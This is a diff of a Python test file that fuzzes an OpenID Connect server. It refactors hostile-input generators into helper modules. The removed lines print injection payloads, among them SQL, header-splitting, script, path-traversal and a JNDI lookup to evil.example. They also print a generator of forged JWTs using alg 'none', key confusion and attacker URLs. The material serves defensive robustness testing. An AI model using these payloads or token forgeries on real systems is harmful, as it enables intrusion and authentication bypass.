@@ -7,7 +7,6 @@ first check; the forged tokens of test_no_forged_token_is_believed must besides 
 import base64
 import json
 import string
-from collections.abc import Iterator, Mapping
 from dataclasses import dataclass
 from datetime import timedelta
 from typing import Any
@@ -16,16 +15,15 @@ from urllib.parse import parse_qsl, quote_from_bytes, unquote_to_bytes, urlsplit
 import pytest
 from hypothesis import HealthCheck, Phase, given, settings
 from hypothesis import strategies as st
-from joserfc import jws, jwt
-from joserfc.jwk import ECKey, OctKey, RSAKey
+from joserfc import jws
+from joserfc.jwk import ECKey, RSAKey
 
 from tests.conftest import MakeWorld
+from tests.support.forgery import forged, read_claims, to_json
+from tests.support.hostile import DEEP, FORM, METHODS, TYPES, Pairs, authorizations, encoded, hostile_cookies, mutated, odd_headers
 from tests.support.relying_party import ASSERTION_TYPE, basic
 from tests.support.wire import MARKER, Wire
 from tests.support.world import SignedIn, World
-
-Pairs = list[tuple[str, bytes]]
-FORM = b"application/x-www-form-urlencoded"
 
 
 def profile(examples: int) -> settings:
@@ -56,159 +54,33 @@ class Target:
 
 
 @pytest.fixture
-def target(make_world: MakeWorld) -> Iterator[Target]:
+def target(make_world: MakeWorld) -> Target:
     """Where the requests go."""
     world = make_world()
     origins = (urlsplit(uri) for client in world.registered.values() for uri in client.settings.redirect_uris)
     sites = frozenset(f"{parts.scheme}://{parts.netloc}" for parts in origins)
-    yield Target(world, Wire(world.wsgi, world.issuer, sites), world.sign_in("claire", "carnet", scope="openid profile offline_access"))
+    return Target(world, Wire(world.wsgi, world.issuer, sites), world.sign_in("claire", "carnet", scope="openid profile offline_access"))
 
 
-# What goes wrong
-
-NASTY = [
-    MARKER.encode(),
-    b'"><script>x7q</script>' + MARKER.encode(),
-    b"' OR 1=1 --",
-    b'"',
-    b"\\",
-    b"\x00",
-    b"a\x00b",
-    b"\r\nSet-Cookie: x7q=1",
-    b"\nLocation: https://evil.example/",
-    b"\xff\xfe",
-    b"\xc3\x28",
-    b"\xed\xa0\x80",
-    "é\u202e\u0000\U0001f600".encode(),
-    "\u2028".encode(),
-    b"%",
-    b"%0d%0a",
-    b"%zz",
-    b"{{7*7}}",
-    b"${jndi:ldap://evil.example/}",
-    b"https://evil.example/",
-    b"//evil.example/",
-    b"/\\evil.example/",
-    b"javascript:alert(1)",
-    b"../../../../etc/passwd",
-    b"0",
-    b"-1",
-    b"1e999",
-    b"9" * 400,
-    "١٢".encode(),
-    b"none",
-    b"null",
-    b"[]",
-    b"{}",
-    b" ",
-    b"",
-    b"A" * 5000,
-    b"a=b&c=d",
+AUTHORIZE_OTHERS = [
+    "claims",
+    "request",
+    "request_uri",
+    "registration",
+    "prompt",
+    "max_age",
+    "ui_locales",
+    "claims_locales",
+    "login_hint",
+    "id_token_hint",
+    "display",
+    "response_mode",
+    "resource",
+    "establishment",
+    "acr_values",
+    "state",
+    "nonce",
 ]
-DEEP = [
-    b"[" * 900 + b"]" * 900,
-    b'{"id_token":{"acr":{"values":' + b"[" * 300 + b"]" * 300 + b"}}}",
-    b'{"userinfo":{"name":{"values":' + b"[" * 450 + b"]" * 450 + b"}}}",
-    b'{"userinfo":{"name":{"value":' + b'{"a":' * 180 + b"1" + b"}" * 180 + b"}}}",
-    b'{"id_token":{"sub":{"value":"\\ud800"}}}',
-    b'{"id_token":{"sub":{"value":"\\u0000<x7q>"}}}',
-    b'{"id_token":{"acr":{"essential":true,"value":"<x7q>"}}}',
-    b'{"id_token":{"acr":{"essential":true,"values":["\\ud800",1,null,[]]}}}',
-    b'{"userinfo":{"\\ud800":null,"name":{"value":1e999}}}',
-    b'{"id_token":[],"userinfo":{"name":true}}',
-    b'{"id_token":{"acr":{"values":5}}}',
-    b'{"userinfo":{"a":{"value":' + b"9" * 3900 + b"}}}",
-    b'{"userinfo":' * 50 + b"1" + b"}" * 50,
-]
-
-
-def values() -> st.SearchStrategy[bytes]:
-    """A hostile value."""
-    return st.one_of(st.sampled_from(NASTY), st.sampled_from(NASTY + DEEP), st.binary(max_size=40), st.text(max_size=20).map(_encoded))
-
-
-def _encoded(text: str) -> bytes:
-    return text.encode("utf-8", "surrogatepass")
-
-
-@st.composite
-def mutated(draw: st.DrawFn, valid: Mapping[str, bytes], others: tuple[str, ...] = ()) -> Pairs:
-    """The valid parameters with one to three things wrong."""
-    pairs: Pairs = list(valid.items())
-    names = st.sampled_from([*valid, *others, "x7q", "", MARKER, "a\r\nb", "é", '"'])
-    for _ in range(draw(st.sampled_from([1, 1, 1, 2, 3]))):
-        act = draw(st.sampled_from(["replace", "replace", "replace", "add", "drop", "repeat", "join"]))
-        if act == "add" or not pairs:
-            pairs.append((draw(names), draw(values())))
-            continue
-        index = draw(st.integers(0, len(pairs) - 1))
-        name, value = pairs[index]
-        if act == "replace":
-            pairs[index] = (name, draw(values()))
-        elif act == "drop":
-            del pairs[index]
-        elif act == "repeat":
-            pairs.append((name, draw(st.one_of(st.just(value), values()))))
-        else:
-            pairs[index] = (name, value + draw(values()))
-    return pairs
-
-
-@st.composite
-def encoded(draw: st.DrawFn, pairs: st.SearchStrategy[Pairs]) -> bytes:
-    """Pairs as form data: mostly well encoded, sometimes not at all, sometimes with rubbish between."""
-    style = draw(st.sampled_from(["good", "good", "good", "raw", "rubbish"]))
-    found = draw(pairs)
-    if style == "raw":
-        return b"&".join(_encoded(name) + b"=" + value for name, value in found)
-    text = "&".join(f"{quote_from_bytes(_encoded(name))}={quote_from_bytes(value)}" for name, value in found).encode()
-    if style == "rubbish":
-        text += draw(st.sampled_from([b"&%", b"&%zz=%ff%fe", b"&&&;=;", b"&=", b"=&=", b"&a", b"&" * 300, b"&%00=%0d%0a"]))
-    return text
-
-
-METHODS = st.sampled_from(["GET"] * 6 + ["POST"] * 30 + ["HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "X7Q", "get", ""])
-TYPES = st.sampled_from(
-    [
-        *[FORM] * 30,
-        FORM + b"; charset=utf-7",
-        b"application/json",
-        b"multipart/form-data; boundary=x7q",
-        b"multipart/form-data",
-        b"text/plain",
-        MARKER.encode(),
-        b"\xff",
-        b"",
-    ]
-)
-
-
-@st.composite
-def odd_headers(draw: st.DrawFn) -> Pairs:
-    """Headers that nobody needs, some of them lies."""
-    names = ["Accept-Language", "Accept", "Origin", "Referer", "User-Agent", "X-Forwarded-For", "Forwarded", "X-Forwarded-Host", "Host"]
-    names += ["Content-Length", "Transfer-Encoding", "If-None-Match", "Range", "X-HTTP-Method-Override", "Sec-Fetch-Mode", "Sec-Fetch-Dest"]
-    sent = draw(st.lists(st.tuples(st.sampled_from(names), values()), max_size=2))
-    # A server in front of us would have refused these.
-    return [(name, value.replace(b"\r", b"").replace(b"\n", b"").replace(b"\x00", b"")) for name, value in sent]
-
-
-@st.composite
-def hostile_cookies(draw: st.DrawFn, good: bytes) -> bytes:
-    """The browser's cookies, or a ruin of them."""
-    style = draw(st.sampled_from(["good", "good", "none", "cut", "nasty", "many"]))
-    if style == "cut":
-        return good[: draw(st.integers(0, len(good)))]
-    if style == "nasty":
-        value = draw(values()).replace(b"\r", b"").replace(b"\n", b"").replace(b"\x00", b"")
-        return b"__Host-vestibule-session=" + value + b"; __Host-vestibule-browser=" + value
-    return {"good": good, "none": b"", "many": b"; ".join(b"a%d=b" % number for number in range(200))}[style]
-
-
-AUTHORIZE_OTHERS = (
-    "claims request request_uri registration prompt max_age ui_locales claims_locales login_hint id_token_hint display response_mode resource "
-    "establishment acr_values state nonce"
-).split()
 
 
 def test_authorize_survives(target: Target) -> None:
@@ -249,29 +121,6 @@ def test_authorize_survives_hostile_claims(target: Target) -> None:
                 assert browser.get(answer.header("Location")).status == 200
             elif "code=" in answer.header("Location"):
                 assert party.redeem(dict(parse_qsl(urlsplit(answer.header("Location")).query))["code"]).status_code == 200
-
-
-@st.composite
-def authorizations(draw: st.DrawFn, good: tuple[bytes, ...]) -> bytes:
-    """Authorization headers: good ones, ruined ones, rubbish."""
-    value = draw(values()).replace(b"\r", b"").replace(b"\n", b"")
-    return draw(
-        st.sampled_from(
-            [
-                *good,
-                b"",
-                b"Basic",
-                b"Basic " + value,
-                b"Basic " + base64.b64encode(value),
-                b"Basic " + base64.b64encode(value + b":" + value),
-                b"Bearer " + value,
-                b"Bearer",
-                b"Bearer a.b.c",
-                b"DPoP x",
-                value,
-            ]
-        )
-    )
 
 
 MACHINE = ("/token", "/introspect", "/revoke", "/userinfo", "/jwks", "/.well-known/openid-configuration")
@@ -321,12 +170,42 @@ def test_machine_endpoints_survive(target: Target) -> None:
     assert target.wire.sent >= 1300
 
 
-PAGES = (
-    "/ /signin/{} /signin/{}/login /signin/{}/consent /signin/{}/establishment /signin/{}/close-session /signin/{}/password /signin/{}/cancel "
-    "/signin/{}/go-on /signin/{}/other /signin/{}/back /signin/{}/{} /account /account/password /account/establishment /account/cancel "
-    "/account/sessions/end /account/sessions/end-others /help /help/{} /logo/{} /static/{} /static/ /logout /logout/confirm /healthz /readyz "
-    "/robots.txt /favicon.ico /{} //{} /authorize/{} /token/{} /.well-known/{}"
-).split()
+PAGES = [
+    "/",
+    "/signin/{}",
+    "/signin/{}/login",
+    "/signin/{}/consent",
+    "/signin/{}/establishment",
+    "/signin/{}/close-session",
+    "/signin/{}/password",
+    "/signin/{}/cancel",
+    "/signin/{}/go-on",
+    "/signin/{}/other",
+    "/signin/{}/back",
+    "/signin/{}/{}",
+    "/account",
+    "/account/password",
+    "/account/establishment",
+    "/account/cancel",
+    "/account/sessions/end",
+    "/account/sessions/end-others",
+    "/help",
+    "/help/{}",
+    "/logo/{}",
+    "/static/{}",
+    "/static/",
+    "/logout",
+    "/logout/confirm",
+    "/healthz",
+    "/readyz",
+    "/robots.txt",
+    "/favicon.ico",
+    "/{}",
+    "//{}",
+    "/authorize/{}",
+    "/token/{}",
+    "/.well-known/{}",
+]
 
 
 def test_pages_survive(target: Target) -> None:
@@ -421,94 +300,13 @@ def test_logout_survives(target: Target) -> None:
     assert target.wire.sent >= 600
 
 
-# Forged tokens
-
-ALGORITHMS = ["none", "None", "nOnE", "", "HS256", "HS512", "RS256", "ES256", "PS256", "EdDSA", "RS1", "A128KW", MARKER, None, 1, [], {}]
-KIDS: list[Any] = ["../../../../dev/null", "' OR 1=1 --", MARKER, "", "\x00", "\ud800", "é", "k" * 4000, None, 7, [], {"a": 1}]
-
-
-def _b64(raw: bytes) -> str:
-    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()
-
-
-def _json(value: object) -> bytes:
-    return json.dumps(value).encode()
-
-
-def _claims(token: str) -> dict[str, Any]:
-    claims: dict[str, Any] = json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "=="))
-    return claims
-
-
-@st.composite
-def forged(draw: st.DrawFn, good: tuple[str, ...], kids: tuple[str, ...], secrets: tuple[bytes, ...]) -> str:
-    """A JWT that nobody of us signed: a header of the attacker's choice over claims of a real token, with a signature that fits if it can."""
-    header_text, payload_text, signature = draw(st.sampled_from(good)).split(".")
-    header: dict[str, Any] = json.loads(base64.urlsafe_b64decode(header_text + "=="))
-    for _ in range(draw(st.integers(1, 3))):
-        name = draw(
-            st.sampled_from(["alg", "alg", "kid", "kid", "typ", "crit", "jwk", "jku", "x5u", "x5c", "b64", "zip", "enc", "cty", "p2c"])
-        )
-        value: Any = draw(
-            st.sampled_from(
-                {"alg": ALGORITHMS, "kid": [*KIDS, *kids]}.get(
-                    name, [None, True, 1, [], ["exp"], {}, "JWT", "at+jwt", "https://evil.example/"]
-                )
-            )
-        )
-        if value is None:
-            header.pop(name, None)
-        else:
-            header[name] = value
-    kind = draw(
-        st.sampled_from(["keep", "empty", "attacker", "secret", "rubbish", "cut", "deep header", "deep payload", "payload", "dots", "json"])
-    )
-    payload = base64.urlsafe_b64decode(payload_text + "==")
-    if kind == "payload":
-        payload = draw(st.sampled_from([b"", b"null", b"[]", b'"x"', b"{", b"1", b"\xff", payload.replace(b"carnet", b"autres")]))
-    if kind == "deep payload":
-        payload = b'{"sub":' + b"[" * 6000 + b"]" * 6000 + b"}"
-    signed = f"{_b64(_json(header))}.{_b64(payload)}"
-    if kind == "deep header":
-        signed = f"{_b64(b'[' * 6000)}.{_b64(payload)}"
-    if kind == "keep":
-        return f"{signed}.{signature}" if signed != f"{header_text}.{payload_text}" else f"{signed}.{signature[::-1]}"
-    if kind == "attacker":
-        return _signed_by_attacker(header, payload)
-    if kind == "secret":
-        return _signed_by_secret(header, payload, draw(st.sampled_from(secrets)))
-    tail = {"cut": signature[: len(signature) // 2], "rubbish": "x7q", "dots": "....", "json": '{"a":1}'}.get(kind, "")
-    return f"{signed}.{tail}"
-
-
-EC, RSA = ECKey.generate_key("P-256"), RSAKey.generate_key(2048)
-
-
-def _signed_by_attacker(header: dict[str, Any], payload: bytes) -> str:
-    key: ECKey | RSAKey = RSA if header.get("alg") == "RS256" else EC
-    kept = {name: value for name, value in header.items() if name in {"kid", "typ"} and isinstance(value, str)}
-    kept |= {"alg": "RS256" if key is RSA else "ES256", "jwk": key.as_dict(private=False)}
-    try:
-        return jwt.encode(kept, json.loads(payload), key, algorithms=["RS256", "ES256"])
-    except (ValueError, TypeError):
-        return f"{_b64(_json(kept))}.{_b64(payload)}.x"
-
-
-def _signed_by_secret(header: dict[str, Any], payload: bytes, secret: bytes) -> str:
-    kept = {name: value for name, value in header.items() if name in {"kid", "typ"} and isinstance(value, str)}
-    try:
-        return jwt.encode({**kept, "alg": "HS256"}, json.loads(payload), OctKey.import_key(secret), algorithms=["HS256"])
-    except (ValueError, TypeError):
-        return f"{_b64(_json(kept))}.{_b64(payload)}.x"
-
-
 def test_no_forged_token_is_believed(target: Target) -> None:
     party, tokens = target.signed_in.party, target.signed_in.tokens
     signer = target.world.relying_party("signataire")
     published = target.world.machine.get("/jwks")
     keys = published.json()["keys"]
     # The classic confusion: the published key, in every form it comes in, as the secret of an HMAC.
-    secrets = (published.content, *(_json(key) for key in keys), *(_pem(key) for key in keys), b"secret-of-nobody")
+    secrets = (published.content, *(to_json(key) for key in keys), *(_pem(key) for key in keys), b"secret-of-nobody")
     good = (tokens.access, tokens.identity, signer.assertion())
     authorization = basic(party.client_id, party.registered.secret or "").encode()
 
@@ -572,8 +370,8 @@ def test_token_endpoint_survives_assertions_that_are_no_sense(target: Target, cl
     party = target.world.relying_party("signataire")
     key = party.registered.key
     assert key is not None
-    payload = {**_claims(party.assertion()), **claims}
-    assertion = jws.serialize_compact({"alg": "ES256", "kid": key.kid}, _json(payload), key, algorithms=["ES256"])
+    payload = {**read_claims(party.assertion()), **claims}
+    assertion = jws.serialize_compact({"alg": "ES256", "kid": key.kid}, to_json(payload), key, algorithms=["ES256"])
     body = f"grant_type=client_credentials&client_assertion_type={ASSERTION_TYPE}&client_assertion={assertion}".encode()
     answer = target.wire.send("POST", "/token", body=body, headers=[("Content-Type", FORM)])
     target.wire.check_json(answer, {"claims": claims})
